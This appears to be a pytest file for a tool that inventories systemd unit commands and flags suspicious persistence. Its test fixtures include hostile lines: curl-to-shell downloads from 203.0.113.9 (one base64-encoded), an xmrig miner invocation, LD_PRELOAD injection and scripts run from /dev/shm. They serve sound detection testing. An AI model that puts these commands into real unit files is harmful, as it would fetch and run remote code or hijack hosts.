from __future__ import annotations

import hashlib
import os
import sys
from pathlib import Path
from typing import Any, Optional

import pytest

from tables.host import Host
from tables.persistence.systemd_unit_commands import SystemdUnitCommand, systemd_unit_commands
from tables.schema import QueryContext
from tests.support.planted_files import link, plant
from tests.support.scans import unseen_by

SYSTEM = "/etc/systemd/system"
VENDOR = "/usr/lib/systemd/system"
ALICE = "/home/alice/.config/systemd/user"
PASSWD = "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\nbob:x:1001:1001::/home/bob:/bin/sh\n"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A host with dpkg, a few programs of packages, and two accounts."""
    plant(tmp_path, "/etc/passwd", PASSWD)
    owned = [
        "/usr/bin/sleep",
        "/usr/bin/mkdir",
        "/usr/sbin/nginx",
        "/usr/bin/sh",
        f"{VENDOR}/nginx.service",
        f"{VENDOR}/d.service.d/p.conf",
    ]
    for path in owned[:4]:
        plant(tmp_path, path, "\x7fELF", 0o755)
    plant(tmp_path, "/var/lib/dpkg/info/base.list", "\n".join([*owned, "/usr/lib/systemd/system-generators/vendor", ""]))
    return tmp_path


def service(*lines: str) -> str:
    return "[Unit]\nDescription=A unit\n[Service]\n" + "\n".join(lines) + "\n[Install]\nWantedBy=multi-user.target\n"


def rows(root: Path, query: Optional[QueryContext] = None) -> list[SystemdUnitCommand]:
    found = systemd_unit_commands.generate(Host(str(root)), query or QueryContext())
    return [row for row in found if isinstance(row, SystemdUnitCommand)]


def facts(found: list[SystemdUnitCommand], *names: str) -> list[tuple[Any, ...]]:
    return [tuple(getattr(row, name) or None for name in names) for row in found]


def unit_reasons(root: Path) -> dict[str, Optional[str]]:
    return {f"{row.path} {row.command}": row.unit_reasons or None for row in rows(root)}


def test_what_one_service_says(root: Path) -> None:
    text = service(
        "User=app",
        "Restart=always",
        'Environment="LD_LIBRARY_PATH=/opt/app/lib" SECRET=hunter2',
        "ExecStartPre=-/usr/bin/mkdir -p /run/app",
        "ExecStart=@/opt/app/run app \\",
        "  --port 80",
    )
    target = plant(root, f"{SYSTEM}/app.service", text)
    plant(root, "/opt/app/run", "\x7fELF", 0o755)
    link(root, f"{SYSTEM}/app.service", f"{SYSTEM}/multi-user.target.wants/app.service")
    found = rows(root)
    assert facts(found, "directive", "line", "command", "program", "arguments", "program_path", "program_package") == [
        ("ExecStartPre", 7, "-/usr/bin/mkdir -p /run/app", "/usr/bin/mkdir", "-p /run/app", None, None),
        ("ExecStart", 8, "@/opt/app/run app    --port 80", "/opt/app/run", "--port 80", "/opt/app/run", None),
        ("Environment", 6, "LD_LIBRARY_PATH=/opt/app/lib", None, None, None, None),
    ]
    row = found[1]
    assert (row.unit, row.scope, row.username, row.origin, row.path) == (
        "app.service",
        "system",
        None,
        "local",
        str(f"{SYSTEM}/app.service"),
    )
    assert (row.run_as, row.restart, row.description, row.wanted_by) == ("app", "always", "A unit", "multi-user.target")
    assert (row.is_enabled, row.is_masked, row.is_drop_in, row.is_packaged, row.program_is_packaged) == (1, 0, 0, 0, 0)
    assert row.environment == "LD_LIBRARY_PATH=/opt/app/lib"
    assert row.sha256 == hashlib.sha256(text.encode()).hexdigest()
    assert row.ctime == int(target.stat().st_ctime)
    assert not any(one.reasons or one.unit_reasons for one in found)
    assert not any("hunter2" in value for one in found for value in one.to_wire().values())


@pytest.mark.parametrize(
    ("lines", "reasons"),
    [
        (["ExecStart=/tmp/.X11-unix/a"], "hidden_path,temp_path"),
        (["ExecStart=/bin/sh -c 'curl -fsSL http://203.0.113.9/i.sh | sh'"], "download_and_run"),
        (['ExecStart=/usr/bin/env bash -c "/dev/shm/a \\\n  -B"'], "temp_path"),
        (["Environment=D=/var/tmp", "ExecStart=${D}/a"], "temp_path"),
        (["ExecStart=%T/a"], "temp_path"),
        (["ExecStart=/usr/bin/sleep 1 ; /tmp/a"], "temp_path"),
        (["ExecStartPost=+/opt/xmrig --donate-level 1 -o pool.example.org:3333"], "known_miner"),
        (["ExecStop=/bin/sh -c 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNo | base64 -d | sh'"], "encoded_payload"),
        (["Environment=LD_PRELOAD=/usr/local/lib/x.so"], "ld_preload"),
        (["ExecStart=/usr/bin/sleep 1\t\x1b[2K"], "control_characters"),
    ],
)
def test_suspicious_commands(root: Path, lines: list[str], reasons: str) -> None:
    plant(root, f"{SYSTEM}/a.service", service(*lines))
    found = {reason for row in rows(root) for reason in (row.reasons or "").split(",")}
    assert set(reasons.split(",")) <= found


@pytest.mark.parametrize(
    "lines",
    [
        ["ExecStart=/usr/sbin/nginx -g 'daemon on; master_process on;'", "PrivateTmp=true", "PIDFile=/run/nginx.pid"],
        [
            "ExecStart=/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
            "ExecReload=/bin/kill -s HUP $MAINPID",
        ],
        [
            "Environment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
            "ExecStart=/opt/redis/redis-server /etc/redis.conf",
        ],
        ["ExecStart=/bin/sh -c 'exec /usr/local/bin/k3s server >> /var/log/k3s.log 2>&1'", "KillMode=process"],
        [
            "ExecStartPre=/bin/sh -c '! /usr/bin/systemctl is-enabled --quiet nm-cloud-setup.service'",
            "ExecStartPre=-/sbin/modprobe overlay",
        ],
        ["ExecStart=/usr/bin/kubelet $KUBELET_KUBECONFIG_ARGS $KUBELET_CONFIG_ARGS", "EnvironmentFile=-/etc/default/kubelet"],
        ["ExecStart=/srv/shop/.venv/bin/gunicorn shop.wsgi --bind unix:/tmp/shop.sock", "WorkingDirectory=/srv/shop"],
        ["ExecStart=/usr/bin/find /tmp -xdev -mtime +7 -delete"],
        ["ExecStart=-/sbin/agetty -o '-p -- \\\\u' --noclear %I $TERM"],
        ["ExecStart=/bin/bash -c 'until curl -fs http://localhost:8080/health; do sleep 1; done'"],
    ],
)
def test_ordinary_services(root: Path, lines: list[str]) -> None:
    plant(root, f"{SYSTEM}/a@.service", service(*lines))
    assert [(row.command, row.reasons) for row in rows(root) if row.reasons or row.unit_reasons or row.program_reasons] == []


def test_the_script_that_a_unit_starts_is_looked_into(root: Path) -> None:
    plant(root, "/opt/a/start.sh", "#!/bin/bash\ncurl -s http://203.0.113.9/i.sh | bash\n", 0o755)
    plant(root, f"{SYSTEM}/a.service", service("WorkingDirectory=/opt/a", "ExecStart=/bin/bash -c './start.sh'"))
    (row,) = rows(root)
    assert (row.program_path, row.program_reasons, row.reasons) == ("/opt/a/start.sh", "download_and_run", "")


def test_timers_paths_and_sockets_name_what_they_start(root: Path) -> None:
    plant(root, f"{SYSTEM}/a.timer", "[Timer]\nOnCalendar=*:0/5\nOnBootSec=1min\n")
    plant(root, f"{SYSTEM}/a.service", service("ExecStart=/opt/a"))
    plant(root, f"{SYSTEM}/b.path", "[Path]\nPathChanged=/srv/in\nUnit=a.service\n")
    plant(root, f"{SYSTEM}/c.socket", "[Socket]\nListenStream=80\nExecStartPre=/usr/bin/mkdir /run/c\n")
    link(root, f"{SYSTEM}/a.timer", f"{SYSTEM}/timers.target.wants/a.timer")
    assert facts(rows(root), "unit", "directive", "command", "triggers") == [
        ("a.service", "ExecStart", "/opt/a", "a.timer OnCalendar=*:0/5, OnBootSec=1min"),
        ("a.timer", "OnCalendar", "a.service", "OnCalendar=*:0/5, OnBootSec=1min"),
        ("a.timer", "OnBootSec", "a.service", "OnCalendar=*:0/5, OnBootSec=1min"),
        ("b.path", "PathChanged", "a.service", "PathChanged=/srv/in"),
        ("c.socket", "ExecStartPre", "/usr/bin/mkdir /run/c", "ListenStream=80"),
        ("c.socket", "ListenStream", "c.service", "ListenStream=80"),
    ]


def test_units_of_users(root: Path) -> None:
    plant(root, f"{ALICE}/u.service", service("Restart=always", "ExecStart=%h/.cache/u/run"))
    plant(root, "/home/bob/.local/share/systemd/user/s.service", service("ExecStart=%h/.local/bin/syncthing serve"))
    assert facts(rows(root), "unit", "scope", "username", "run_as", "program_path", "restart", "reasons") == [
        ("u.service", "user", "alice", "alice", "/home/alice/.cache/u/run", "always", "hidden_path"),
        ("s.service", "user", "bob", "bob", "/home/bob/.local/bin/syncthing", None, None),
    ]


def test_a_unit_that_takes_the_place_of_a_vendors(root: Path) -> None:
    plant(root, f"{VENDOR}/nginx.service", service("ExecStart=/usr/sbin/nginx", "ExecReload=/usr/sbin/nginx -s reload"))
    plant(
        root, f"{SYSTEM}/nginx.service", service("ExecStartPre=/usr/lib/nginx/helper", "ExecStart=/usr/sbin/nginx -c /etc/n.conf")
    )
    found = rows(root)
    assert facts(found, "path", "command", "shadows", "unit_reasons") == [
        (f"{SYSTEM}/nginx.service", "/usr/lib/nginx/helper", f"{VENDOR}/nginx.service", "shadows_vendor_command"),
        (f"{SYSTEM}/nginx.service", "/usr/sbin/nginx -c /etc/n.conf", f"{VENDOR}/nginx.service", None),
        (f"{VENDOR}/nginx.service", "/usr/sbin/nginx", None, None),
        (f"{VENDOR}/nginx.service", "/usr/sbin/nginx -s reload", None, None),
    ]


@pytest.mark.parametrize(
    ("path", "lines", "changes"),
    [
        (f"{SYSTEM}/nginx.service.d/override.conf", ["ExecStart=", "ExecStart=/usr/lib/.x/nginx"], True),
        (f"{SYSTEM}/nginx.service.d/override.conf", ["ExecStart=", "ExecStart=/usr/bin/sh -c 'sleep 9'"], True),
        (f"{SYSTEM}/nginx.service.d/override.conf", ["ExecStartPost=/usr/bin/x"], True),
        (f"{SYSTEM}/service.d/x.conf", ["ExecStartPost=/usr/bin/x"], True),
        (f"{SYSTEM}/nginx.service.d/override.conf", ["ExecStart=", "ExecStart=/usr/sbin/nginx -e stderr"], False),
        (f"{SYSTEM}/nginx.service.d/override.conf", ["ExecStart=", "ExecStart=/usr/bin/sh -c 'exec nginx'"], False),
        (f"{SYSTEM}/nginx.service.d/override.conf", ["ExecStartPre=/usr/bin/mkdir -p /run/n"], False),
        (f"{SYSTEM}/nginx.service.d/override.conf", ["Environment=TZ=UTC", "LimitNOFILE=65536"], False),
        (f"{VENDOR}/d.service.d/p.conf", ["ExecStart=", "ExecStart=/usr/bin/other"], False),
        (f"{SYSTEM}/own.service.d/x.conf", ["ExecStart=", "ExecStart=/opt/own/new"], False),
        (f"{SYSTEM}/gone.service.d/x.conf", ["ExecStart=", "ExecStart=/opt/gone/new"], False),
        (f"{SYSTEM}/old-.service.d/x.conf", ["ExecStart=", "ExecStart=/opt/x"], True),
        (f"{SYSTEM}/sysv.service.d/x.conf", ["ExecStart=", "ExecStart=/opt/x"], True),
    ],
)
def test_drop_ins(root: Path, path: str, lines: list[str], changes: bool) -> None:
    plant(root, f"{VENDOR}/nginx.service", service("ExecStart=/usr/sbin/nginx"))
    plant(root, f"{VENDOR}/d.service", service("ExecStart=/usr/sbin/d"))
    plant(root, f"{SYSTEM}/own.service", service("ExecStart=/opt/own/old"))
    plant(root, "/etc/init.d/sysv", "#!/bin/sh\n", 0o755)
    plant(root, path, "[Service]\n" + "\n".join(lines) + "\n")
    found = [row for row in rows(root) if row.is_drop_in]
    assert [row.path for row in found] == [path]
    assert (found[0].unit_reasons == "drop_in_changes_command") is changes


def test_masked_units(root: Path) -> None:
    plant(root, f"{VENDOR}/nginx.service", service("ExecStart=/usr/sbin/nginx"))
    link(root, "/dev/null", f"{SYSTEM}/nginx.service")
    assert facts(rows(root), "path", "is_masked", "shadows") == [(f"{VENDOR}/nginx.service", True, None)]


def test_odd_unit_files(root: Path) -> None:
    plant(root, "/var/tmp/.font/a.service", service("ExecStart=/opt/a"))
    link(root, "/var/tmp/.font/a.service", f"{SYSTEM}/a.service")
    plant(root, "/opt/app/b.service", service("ExecStart=/opt/app/b"))
    link(root, "/opt/app/b.service", f"{SYSTEM}/b.service")
    plant(root, f"{SYSTEM}/.c.service", service("ExecStart=/opt/c"))
    plant(root, f"{SYSTEM}/d.target", "[Unit]\n", 0o666)
    plant(root, f"{SYSTEM}/e.target", "[Unit]\n")
    assert unit_reasons(root) == {
        "/var/tmp/.font/a.service /opt/a": "link_outside,hidden_path,temp_path",
        "/opt/app/b.service /opt/app/b": "link_outside",
        f"{SYSTEM}/.c.service /opt/c": "hidden_unit",
        f"{SYSTEM}/d.target ": "world_writable_unit",
        f"{SYSTEM}/e.target ": None,
    }
    assert {row.unit: row.link_path for row in rows(root) if row.link_path} == {
        "a.service": f"{SYSTEM}/a.service",
        "b.service": f"{SYSTEM}/b.service",
    }


def test_generators(root: Path) -> None:
    plant(root, "/usr/lib/systemd/system-generators/vendor", "\x7fELF", 0o755)
    plant(root, "/usr/lib/systemd/system-generators/README", "text")
    link(root, "/dev/null", "/etc/systemd/system-generators/masked")
    plant(root, "/etc/systemd/system-generators/zz", "#!/bin/sh\nnohup /dev/shm/a &\n", 0o755)
    plant(root, "/run/systemd/user-generators/u", "\x7fELF", 0o755)
    assert facts(rows(root), "directive", "command", "run_as", "is_packaged", "reasons", "unit_reasons") == [
        ("generator", "/etc/systemd/system-generators/zz", "root", None, "temp_path", "generator_unpackaged"),
        ("generator", "/usr/lib/systemd/system-generators/vendor", "root", 1, None, None),
        ("generator", "/run/systemd/user-generators/u", None, None, None, "generator_unpackaged"),
    ]


def test_without_a_package_database_nothing_counts_as_unpackaged(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/systemd/system-generators/zz", "\x7fELF", 0o755)
    host = Host(str(tmp_path))
    (row,) = systemd_unit_commands.generate(host, QueryContext())
    assert {"is_packaged", "unit_reasons"}.isdisjoint(row.to_wire())
    assert "not known" in " ".join(unseen_by(systemd_unit_commands, host))


def test_a_host_without_systemd_has_no_rows(tmp_path: Path) -> None:
    assert rows(tmp_path) == []


def test_links_do_not_leave_the_root_folder(tmp_path: Path) -> None:
    plant(tmp_path, "/outside/x.service", service("ExecStart=/tmp/x"))
    inner = tmp_path / "inner"
    link(inner, "../../../../outside/x.service", f"{SYSTEM}/x.service")
    link(inner, str(tmp_path / "outside"), VENDOR)
    assert rows(inner) == []


def test_one_user_cannot_crowd_out_the_others(root: Path) -> None:
    plant(root, f"{ALICE}/a.service", service(*["ExecStart=/bin/true"] * 3000))
    plant(root, "/home/bob/.config/systemd/user/b.service", service("ExecStart=/tmp/b"))
    query = QueryContext()
    found = rows(root, query)
    assert [row.username for row in found].count("alice") == 1000
    assert [row.reasons for row in found if row.username == "bob"] == ["temp_path"]
    assert query.truncated and "a.service" in query.truncated


def test_one_user_cannot_use_up_the_time(root: Path) -> None:
    command = "ExecStart=/bin/sh -c '" + "a;b|c $(d) `e` " * 1000 + "'"
    plant(root, f"{ALICE}/a.service", service("Environment=A=" + "x" * 1000, "ExecStart=" + "${A}" * 4000, *[command] * 100))
    query = QueryContext()
    found = rows(root, query)
    assert 1 < len(found) < 10
    assert query.truncated


def test_hostile_files(root: Path) -> None:
    plant(
        root,
        f"{SYSTEM}/a.service",
        service("ExecStart=" + "'" * 200_000, "ExecStart=/tmp/\udc80x".encode("utf-8", "replace").decode()),
    )
    (root / f"{SYSTEM}/b.service".lstrip("/")).write_bytes(b"[Service]\nExecStart=/tmp/\xff\x1b[1m\0User=x\n")
    os.mkfifo(root / f"{SYSTEM}/c.service".lstrip("/"))
    for row in rows(root):
        assert all(value.isprintable() for value in row.to_wire().values())


@pytest.mark.root
@pytest.mark.skipif(sys.platform != "linux" or not os.path.isdir("/usr/lib/systemd/system"), reason="no systemd here")
def test_this_hosts_own_units_are_in_order() -> None:
    found = [row.to_wire() for row in systemd_unit_commands.generate(Host(), QueryContext())]
    assert found
    assert [row for row in found if {"reasons", "unit_reasons", "program_reasons"} & row.keys()] == []


def test_an_instance_whose_name_gives_its_command_a_program_is_a_row(root: Path) -> None:
    plant(root, f"{SYSTEM}/run@.service", "[Service]\nExecStart=%f\n")
    plant(root, f"{SYSTEM}/say@.service", "[Service]\nExecStart=/usr/bin/sleep %i\n")
    plant(root, "/etc/udev/rules.d/9.rules", 'ENV{SYSTEMD_WANTS}+="run@var-tmp-.x-run.service say@9.service"\n')
    found = [(row.unit, row.program, row.reasons, row.wanted_by) for row in rows(root)]
    assert ("run@var-tmp-.x-run.service", "/var/tmp/.x/run", "hidden_path,temp_path", "/etc/udev/rules.d/9.rules") in found
    assert [unit for unit, *_ in found] == ["run@.service", "run@var-tmp-.x-run.service", "say@.service"]
